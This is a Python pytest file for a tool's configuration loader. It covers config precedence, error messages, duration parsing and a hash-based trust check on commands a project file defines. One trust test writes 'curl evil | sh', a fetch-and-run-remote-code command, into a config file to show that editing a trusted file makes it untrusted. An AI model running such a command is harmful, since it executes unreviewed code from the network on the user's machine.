"""Configuration: baton.toml, the personal config (wins), the documented environment (wins
over both), one clear line for a broken file, trust, and the shipped example."""

from __future__ import annotations

import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from pydantic import BaseModel

from baton_tui.config import (
    AutopilotConfig, ChecksConfig, Config, HandoffConfig, CustomPlayer, LimitsConfig, PlayerSettings,
    PlayersConfig, SupervisionConfig, WorktreeConfig, load_config, parse_duration,
)
from baton_tui.runners_config import RunnerSettings, RunnersConfig
from baton_tui.core.errors import BatonError
from baton_tui.paths import find_repo
from baton_tui.store.db import Store

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "baton.toml.example"


@pytest.fixture
def personal(isolated_env) -> Path:
    path = isolated_env / ".config" / "baton" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def refused(root: Path) -> BatonError:
    with pytest.raises(BatonError) as info:
        load_config(root)
    assert info.value.code == 2
    return info.value


def test_defaults_without_any_file(tmp_path):
    cfg = load_config(tmp_path).config
    assert cfg == Config()
    assert (cfg.planner, cfg.autonomy) == ("claude-code", "guarded")
    assert (cfg.limits.max_parallel, cfg.limits.max_wait, cfg.limits.stall) == (4, 3600.0, 900.0)
    assert (cfg.limits.checkpoint_wait, cfg.limits.retries) == (20.0, 3)
    assert cfg.worktree.copy_ == [] and cfg.worktree.setup is None and cfg.checks.run is None


def test_project_file_is_read(tmp_path):
    (tmp_path / "baton.toml").write_text(
        'planner = "codex"\nautonomy = "watch"\n[limits]\nmax_wait = "30m"\nstall = 60\n'
        '[worktree]\ncopy = [".env"]\nsetup = "npm ci"\n[players.codex]\nmax_parallel = 2\n'
        'models = ["gpt-9"]\n[players.custom.mine]\ncommand = ["./agent"]\n')
    cfg = load_config(tmp_path).config
    assert (cfg.planner, cfg.autonomy) == ("codex", "watch")
    assert cfg.limits.max_wait == 1800.0 and cfg.limits.stall == 60.0
    assert cfg.worktree.copy_ == [".env"] and cfg.worktree.setup == "npm ci"
    assert cfg.players.settings["codex"].max_parallel == 2
    assert cfg.players.settings["codex"].models == ["gpt-9"]
    assert cfg.players.custom["mine"].command == ["./agent"]


def test_personal_wins_over_project_and_merges_deeply(tmp_path, personal):
    (tmp_path / "baton.toml").write_text(
        'planner = "codex"\n[limits]\nmax_parallel = 2\nstall = "5m"\n')
    personal.write_text('planner = "gemini"\n[limits]\nmax_parallel = 8\n')
    cfg = load_config(tmp_path).config
    assert cfg.planner == "gemini"
    assert cfg.limits.max_parallel == 8
    assert cfg.limits.stall == 300.0  # the project's key the personal file did not set


def test_baton_config_names_another_personal_file(tmp_path, personal, monkeypatch):
    personal.write_text('planner = "gemini"\n')
    other = tmp_path / "elsewhere.toml"
    other.write_text('planner = "amp"\n')
    monkeypatch.setenv("BATON_CONFIG", str(other))
    assert load_config(tmp_path).config.planner == "amp"


def test_environment_wins_over_both(tmp_path, personal, monkeypatch):
    (tmp_path / "baton.toml").write_text('planner = "codex"\nautonomy = "watch"\n'
                                         '[limits]\nmax_parallel = 2\n')
    personal.write_text('planner = "gemini"\nautonomy = "guarded"\n[limits]\nmax_parallel = 3\n')
    monkeypatch.setenv("BATON_PLANNER", "anthropic")
    monkeypatch.setenv("BATON_AUTONOMY", "autopilot")
    monkeypatch.setenv("BATON_MAX_PARALLEL", "7")
    cfg = load_config(tmp_path).config
    assert (cfg.planner, cfg.autonomy, cfg.limits.max_parallel) == ("anthropic", "autopilot", 7)


def test_other_baton_variables_are_ignored(tmp_path, monkeypatch):
    (tmp_path / "baton.toml").write_text('planner = "codex"\n')
    expected = load_config(tmp_path).config
    for name, value in {"BATON_TASK": "3", "BATON_ATTEMPT": "9", "BATON_NONCE": "x",
                        "BATON_STATE": "/nowhere", "BATON_MODEL": "opus", "BATON_EFFORT": "hi",
                        "BATON_MODE": "yolo", "BATON_LIMITS": "1", "BATON_STALL": "nonsense",
                        "BATON_PLAYERS": "{", "BATON_planner": "amp"}.items():
        monkeypatch.setenv(name, value)
    assert load_config(tmp_path).config == expected


@pytest.mark.parametrize("name,value,message", [
    ("BATON_AUTONOMY", "yolo", "BATON_AUTONOMY: 'yolo' is not one of guarded, watch, autopilot"),
    ("BATON_MAX_PARALLEL", "x", "BATON_MAX_PARALLEL: 'x' is not a whole number of at least 1"),
    ("BATON_MAX_PARALLEL", "0", "BATON_MAX_PARALLEL: '0' is not a whole number of at least 1"),
    ("BATON_MAX_PARALLEL", "100", "configuration: limits.max_parallel: input should be less"),
])
def test_bad_environment_values(tmp_path, monkeypatch, name, value, message):
    monkeypatch.setenv(name, value)
    err = refused(tmp_path)
    assert len(err.lines) == 1 and err.lines[0].startswith(message)


@pytest.mark.parametrize("text,line", [
    ("planner = 3\n", "baton.toml: planner: input should be a valid string"),
    ("colour = 'red'\n", "baton.toml: colour: unknown key"),
    ("[limits]\nmax_parallel = true\n", "baton.toml: limits.max_parallel: input should be a "
     "valid integer"),
    ("[limits]\nmax_parallel = '4'\n", "baton.toml: limits.max_parallel: input should be a "
     "valid integer"),
    ("[limits]\nretries = -1\n", "baton.toml: limits.retries: input should be greater than or "
     "equal to 0"),
    ("[limits]\nmax_wait = '-5m'\n", "baton.toml: limits.max_wait: must be a number of seconds"),
    ("[limits]\nstall = -3\n", "baton.toml: limits.stall: must not be negative"),
    ("[players.custom.Bad_Name]\ncommand = ['x']\n", "baton.toml: players.custom: custom player "
     "name 'Bad_Name'"),
    ("[players.custom.codex]\ncommand = ['x']\n", "baton.toml: players.custom: custom player "
     "'codex' reuses a reserved or built-in name"),
    ("[players.custom.a]\ncommand = []\n", "baton.toml: players.custom.a.command: list should "
     "have at least 1 item"),
    ("[players.codex]\nmodel = 'x'\n", "baton.toml: players.settings.codex.model: unknown key"),
    ("[players.codex]\nenv = { A = 1 }\n", "baton.toml: players.settings.codex.env.A: input "
     "should be a valid string"),
    ("[keys]\napprove = 1\n", "baton.toml: keys.approve: input should be a valid string"),
    ("limits = 3\n", "baton.toml: limits: input should be a valid dictionary"),
])
def test_broken_project_file_is_one_line(tmp_path, text, line):
    (tmp_path / "baton.toml").write_text(text)
    err = refused(tmp_path)
    assert err.lines == [err.message]
    assert err.message.startswith(line), err.message


def test_broken_toml_syntax(tmp_path):
    (tmp_path / "baton.toml").write_text("planner = \n")
    err = refused(tmp_path)
    assert err.lines == [err.message]
    assert str(tmp_path / "baton.toml") in err.message and "not valid TOML" in err.message
    assert "line 1" in err.message


def test_broken_personal_file_names_its_path(tmp_path, personal):
    personal.write_text("[worktree]\nsetup = ['a']\n")
    err = refused(tmp_path)
    assert err.lines == [f"{personal}: worktree.setup: input should be a valid string"]


def test_unreadable_file_is_one_line(tmp_path):
    (tmp_path / "baton.toml").write_bytes(b"planner = '\xff\xfe'\n")
    err = refused(tmp_path)
    assert len(err.lines) == 1 and "baton.toml" in err.message


def test_parse_duration():
    assert parse_duration(90) == 90.0
    assert parse_duration("90") == 90.0
    assert parse_duration("30m") == 1800.0
    assert parse_duration("6h") == 21600.0
    assert parse_duration("1d") == 86400.0
    assert parse_duration(" 1.5m ") == 90.0
    for bad in ("soon", "5 minutes", "-1", True, "m"):
        with pytest.raises(ValueError):
            parse_duration(bad)


# --- trust ---------------------------------------------------------------------------

def test_project_commands_lists_only_the_repo_files_commands(tmp_path, personal):
    (tmp_path / "baton.toml").write_text(
        '[players.custom.mine]\ncommand = ["./a"]\nresearch_command = ["./a", "-r"]\n'
        '[players.codex]\nbin = "/opt/codex"\nmax_parallel = 1\n'
        '[worktree]\nsetup = "npm ci"\ncopy = [".env"]\n[checks]\nrun = "make test"\n')
    loaded = load_config(tmp_path)
    assert sorted(loaded.project_commands()) == sorted([
        "players.custom.mine.command", "players.custom.mine.research_command",
        "players.codex.bin", "worktree.setup", "checks.run"])
    # what the personal config sets is trusted as it is
    personal.write_text('[worktree]\nsetup = "make deps"\n[checks]\nrun = "make check"\n')
    loaded = load_config(tmp_path)
    assert "worktree.setup" not in loaded.project_commands()
    assert "checks.run" not in loaded.project_commands()
    assert loaded.config.checks.run == "make check"


def test_no_commands_no_trust_needed(tmp_path):
    (tmp_path / "baton.toml").write_text('planner = "codex"\n[worktree]\ncopy = [".env"]\n')
    assert load_config(tmp_path).project_commands() == []


def test_trust_then_change_is_untrusted(repo):
    toml = repo / "baton.toml"
    toml.write_text('[checks]\nrun = "make test"\n')
    result = subprocess.run([sys.executable, "-m", "baton_tui", "trust"], cwd=repo,
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    loaded = load_config(repo)
    with Store(find_repo(repo).store_path) as store:
        assert loaded.project_commands() == ["checks.run"]
        assert store.trusted_hash(str(toml)) == loaded.project_hash()
    toml.write_text('[checks]\nrun = "curl evil | sh"\n')
    loaded = load_config(repo)
    with Store(find_repo(repo).store_path) as store:
        assert store.trusted_hash(str(toml)) != loaded.project_hash()
    # trusting again records the new hash
    assert subprocess.run([sys.executable, "-m", "baton_tui", "trust"], cwd=repo,
                          capture_output=True).returncode == 0
    with Store(find_repo(repo).store_path) as store:
        assert store.trusted_hash(str(toml)) == load_config(repo).project_hash()


def test_a_long_lived_workspace_follows_an_edited_file(repo):
    """The app and `baton serve` hold one workspace for hours: an edit to baton.toml is
    what the next command reads, and a file broken since is refused, not run as it was."""
    from baton_tui.workspace import Workspace

    toml = repo / "baton.toml"
    toml.write_text('[checks]\nrun = "make test"\n')
    ws = Workspace(repo)
    assert ws.config.checks.run == "make test"
    ws.refresh_config()
    assert ws.config.checks.run == "make test"  # unchanged: the same parse
    toml.write_text('[checks]\nrun = "make check"\n')
    assert ws.config.checks.run == "make test"  # read once until asked to look again
    ws.refresh_config()
    assert ws.config.checks.run == "make check"
    toml.write_text('[checks\n')
    ws.refresh_config()
    with pytest.raises(BatonError, match="baton.toml"):
        ws.config


# --- the shipped example ------------------------------------------------------------

def test_example_loads_cleanly_as_shipped(tmp_path):
    (tmp_path / "baton.toml").write_bytes(EXAMPLE.read_bytes())
    loaded = load_config(tmp_path)
    cfg = loaded.config
    assert cfg.players.custom["my-agent"].command
    assert cfg.limits.max_wait == 3600.0 and cfg.limits.stall == 900.0
    assert set(loaded.project_commands()) >= {"checks.run", "worktree.setup",
                                              "players.custom.my-agent.command"}


def _keys_in(node, prefix=()) -> set[tuple[str, ...]]:
    found = set()
    if isinstance(node, dict):
        for key, value in node.items():
            found.add((*prefix, key))
            found |= _keys_in(value, (*prefix, key))
    return found


def _documented_fields(model: type[BaseModel]) -> list[str]:
    return [field.alias or name for name, field in model.model_fields.items()]


def test_example_documents_every_field_of_every_model():
    raw = tomllib.loads(EXAMPLE.read_text())
    text = EXAMPLE.read_text()
    keys = _keys_in(raw)
    tables = {
        Config: (),
        PlayersConfig: ("players",),
        LimitsConfig: ("limits",),
        WorktreeConfig: ("worktree",),
        ChecksConfig: ("checks",),
        HandoffConfig: ("handoff",),
        SupervisionConfig: ("supervision",),
        AutopilotConfig: ("autopilot",),
        PlayerSettings: ("players", "claude-code"),
        CustomPlayer: ("players", "custom", "my-agent"),
        RunnersConfig: ("runners",),
        RunnerSettings: ("runners", "lab"),
    }
    missing = []
    for model, prefix in tables.items():
        for name in _documented_fields(model):
            if model is PlayersConfig and name == "settings":
                continue  # the built-in player tables, checked just above as PlayerSettings
            if (*prefix, name) not in keys:
                missing.append(".".join((*prefix, name)))
    assert not missing, f"baton.toml.example lacks {missing}"
    # every nested model of Config is covered by the table above
    for model in tables:
        for field in model.model_fields.values():
            ann = field.annotation
            inner = [a for a in getattr(ann, "__args__", (ann,)) if isinstance(a, type)]
            for sub in inner:
                if issubclass(sub, BaseModel):
                    assert sub in tables, sub
    # each key has a comment right above it
    lines = text.splitlines()
    for i, line in enumerate(lines):
        stripped = line.strip()
        if stripped and not stripped.startswith(("#", "[")):
            assert lines[i - 1].lstrip().startswith("#"), f"no comment above {line!r}"
    for env in ("BATON_PLANNER", "BATON_AUTONOMY", "BATON_MAX_PARALLEL", "BATON_CONFIG",
                "BATON_HOME", "baton trust"):
        assert env in text
